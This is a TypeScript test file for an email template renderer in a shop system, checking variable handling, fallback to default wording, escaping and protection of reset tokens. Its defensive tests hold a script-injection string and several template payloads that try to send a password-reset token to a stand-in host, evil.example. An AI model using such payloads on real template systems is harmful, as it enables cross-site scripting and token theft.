import { expect, test } from 'vitest';
import { allEvents } from '../../kernel/events.ts';
import '../../setup/declarations/declarations.ts';
import { kindNamed, MAIL_KINDS, ownWording, REPEATABLE, render, written } from './email-templates.ts';
import { namesIn } from './liquid-engine.ts';
import { sampleOf, variablesFor, variablesOf } from './mail-kinds.ts';
import type { Message } from './notification-rules.ts';
import { newWording } from './notification-templates.contract.ts';
import { allowanceFor } from './template-allowance.ts';
import { hasPath, variableList } from './variable-list.ts';
import { tried } from './wording-check.ts';
import { passedOver, REST_MS } from './wording-rest.ts';

const around = {
  companyName: "Ada's {{ 'x' | upcase }} <b>",
  adminUrl: 'https://admin.example.com',
  shopUrl: 'https://shop.example.com',
};
/** The message a kind's sample makes. */
const messageOf = (name: string, parameters: object): Message =>
  ({ template: name, recipient: 'ada@example.com', parameters }) as Message; // any kind's, by its name

test.each(MAIL_KINDS)('$name: its sample is all its template may use, and each thing says what it is', (kind) => {
  const variables = variablesFor(kind, sampleOf(kind), around);
  expect(variablesOf(kind).parse(variables)).toEqual(variables);
  expect(allEvents().map(({ type }) => type)).toEqual(expect.arrayContaining([...kind.events]));
  const words = variableList(kind);
  expect(words.filter(({ about }) => about === '')).toEqual([]);
  for (const { name } of words) expect(hasPath(kind, name.replaceAll('[]', '.first').split('.'))).toBe(true);
});

test.each(MAIL_KINDS)('$name: our own words pass the check of those of a company', (kind) => {
  const wording = newWording.parse({ subject: kind.subject, html: kind.html });
  expect(tried(kind, wording, sampleOf(kind), around).faults).toBeUndefined();
  const { subject, text, html } = written(
    ownWording(kind),
    variablesFor(kind, sampleOf(kind), around),
    around,
    allowanceFor('trial'),
  );
  expect(`${subject}${text}${html}`).not.toMatch(/<b>"|\{%|undefined|null|\[object/);
  expect(html.match(/<table/g)).toHaveLength(html.match(/<\/table>/g)?.length ?? 0);
});

test.each(MAIL_KINDS)(
  '$name: ours and those of a company stand in the same frame, and say their variables alike',
  (kind) => {
    const message = messageOf(kind.name, sampleOf(kind));
    const ours = render(message, around);
    expect(render(message, around, { subject: kind.subject, html: kind.html, text: null })).toEqual(ours);
    const own = render(message, around, {
      subject: 'Own {{ shop.name }}',
      html: '<h1>Own {{ shop.name }}</h1>',
      text: 'Own {{ shop.name }}',
    });
    expect(own).toMatchObject({ subject: `Own ${around.companyName}`, text: `Own ${around.companyName}\n` });
    expect(own.html.split('<h1')[0]).toBe(
      ours.html
        .split('<h1')[0]
        ?.replace(/<title>.*<\/title>/, '<title>Own Ada&#39;s {{ &#39;x&#39; | upcase }} &lt;b&gt;</title>'),
    );
  },
);

/** The parameters with every piece of text made hostile. */
function hostile(value: unknown, text: string): unknown {
  if (typeof value === 'string') return text;
  if (Array.isArray(value)) return value.map((one) => hostile(one, text));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, hostile(inner, text)]));
}

test.each(MAIL_KINDS)('$name: no text of a person becomes markup, Liquid or a link of its own', (kind) => {
  const evil = `{{ 'x' | upcase }}<script>alert(1)</script><a href="https://evil.example">"'>`;
  const parameters = { ...(hostile(kind.sample, evil) as object), token: evil };
  const every = variableList(kind).map(({ name }) => `{{ ${name.replaceAll('[]', '.first')} }}`);
  for (const wording of [null, { subject: 'x', html: `<p>${every.join(' ')}</p>`, text: null }]) {
    const letter = render(messageOf(kind.name, parameters), around, wording);
    expect(letter.fault).toBeUndefined();
    expect(letter.html).not.toMatch(/<script|<[^>]*href="https:\/\/evil|<b>/);
    expect(letter.html).toContain('{{ ');
  }
});

test.each(MAIL_KINDS)('$name: what may be missing is missed by nobody', (kind) => {
  const optional = new Set(variableList(kind).flatMap(({ name, isOptional }) => (isOptional ? [name] : [])));
  const without = (value: unknown, path: string): unknown => {
    if (optional.has(path)) return null;
    if (Array.isArray(value)) return value.map((one) => without(one, `${path}[]`));
    if (typeof value !== 'object' || value === null) return value;
    const inside = (name: string) => (path === '' ? name : `${path}.${name}`);
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, without(one, inside(name))]));
  };
  const letter = render(messageOf(kind.name, without(kind.sample, '') as object), around);
  expect(letter.text).not.toMatch(/null|undefined|\(\)|^(?:Hello|Carrier|Tracking|How to pay|It goes to)\W*$/m);
  expect(letter.html).not.toMatch(/href=""|null|undefined/);
});

test('words that cannot be used lose no mail: ours go out, and the reason is told', () => {
  const kind = kindNamed('order-paid') ?? expect.fail();
  const message = messageOf(kind.name, sampleOf(kind));
  const ours = render(message, around);
  for (const html of [
    '{% if %}',
    '{% for i in (1..999999999) %}x{% endfor %}',
    '<script>1</script>',
    '<div>'.repeat(500),
    '{{ order | nothing }}',
  ]) {
    const { fault, ...letter } = render(message, around, { subject: 'Own', html, text: null });
    expect(letter).toEqual(ours);
    expect(fault).toMatch(/\.$/);
  }
  expect(render(message, around, { subject: '{{ nothing }}', html: 'x', text: null }).fault).toContain('subject');
  // A variable that is gone is no reason to say something else.
  expect(render(message, around, { subject: 'Own{{ nothing }}', html: '<p>x</p>', text: null })).toMatchObject({
    subject: 'Own',
  });
});

test('whoever writes a template cannot have the tokens of others sent to a server of their own', () => {
  const token = 'canary-token';
  const message = messageOf('password-reset', { name: 'Ada', expiresAt: '2026-11-28T09:00:00.000Z', token });
  const evil = 'https://evil.example/?t=';
  for (const html of [
    `<img src="${evil}{{ link }}">x`,
    `<a href="${evil}{{ link }}">x</a>`,
    `<a href="${evil}{{ link | url_encode }}">x</a>`,
    `<a href="${evil}{{ link | split: '' | join: '-' }}">x</a>`,
    `<a href="${evil}{{ link | slice: 20, 60 }}">x</a>`,
    `<p>${evil}{{ link }}</p>`,
    `<p>${evil}<b>{{ link }}</b></p>`,
    `<p style="background:{{ link }}" title="{{ link }}">x</p>`,
    `<table background="${evil}{{ link }}"><tr><td>x</td></tr></table>`,
  ]) {
    const { fault, ...letter } = render(message, around, { subject: 'Own {{ link }}', html, text: null });
    // Either ours went out, or words without the token in them.
    if (fault) expect(letter).toEqual(render(message, around));
    else expect(JSON.stringify(letter)).not.toContain(token);
  }
  const apart = { subject: 'x', html: `<p>${evil}<b>{{ link }}</b></p>`, text: 'x' };
  expect(render(message, around, apart).fault).toContain('link stands inside');
  const text = render(message, around, { subject: 'x', html: '<p>x</p>', text: `${evil}{{ link }}` });
  expect(text.fault).toContain('link stands inside');
  const fine = render(message, around, {
    subject: 'Own{{ link }}',
    html: '<a href="{{ link }}">Go</a> <p>{{ link }}</p>',
    text: 'Go to {{ link }}.',
  });
  const link = `https://admin.example.com/reset-password#token=${token}`;
  expect(fine).toMatchObject({ subject: 'Own', text: `Go to ${link}.\n` });
  expect(fine.html.split(link)).toHaveLength(3);
});

test('a mail that cannot be sent again says how somebody gets another link, and all others can', () => {
  for (const kind of MAIL_KINDS) {
    const expires = namesIn('html', kind.html).some(({ path }) => path[0] === 'expiresAt');
    expect([kind.name, REPEATABLE.includes(kind.name)]).toEqual([kind.name, kind.instead === undefined]);
    expect([kind.name, kind.instead !== undefined]).toEqual([kind.name, expires || kind.name === 'password-reset']);
  }
});

test('what a shopper writes is neither taken for the link nor refused as one that stands wrong', () => {
  const kind = kindNamed('order-paid') ?? expect.fail();
  const typed = 'xhttps://link.invalid/of-this-mail https://link.invalid/of-this-mail';
  const sample = kind.sample as { order: object };
  const { text, fault } = render(
    messageOf(kind.name, { ...sample, order: { ...sample.order, address: typed }, token: 't' }),
    around,
  );
  expect(fault).toBeUndefined();
  expect(text).toContain(typed);
  expect(text).toContain('#token=t');
});

test('words that could not be used are left alone until they change or a while is over', () => {
  const message = messageOf('order-paid', sampleOf(kindNamed('order-paid') ?? expect.fail()));
  const stored = (version: number, html: string) => ({ id: 'ntt_rest', version, subject: 'Own', html, text: null });
  const broken = render(message, around, stored(1, '{% gone %}'));
  expect(broken.fault).toContain('"gone" not found');
  // The same version, though it would do now: nobody tried.
  expect(render(message, around, stored(1, '<p>x</p>'))).toEqual(broken);
  expect(render(message, around, stored(2, '<p>x</p>'))).toMatchObject({ subject: 'Own' });
  const [words, at] = [{ id: 'ntt_rest', version: 1 }, Date.now()];
  expect(passedOver(words, at + REST_MS - 60_000)).toBe(broken.fault);
  expect(passedOver(words, at + REST_MS + 60_000)).toBeUndefined();
  expect(render(message, around, stored(1, '<p>x</p>')).fault).toBeUndefined();
});
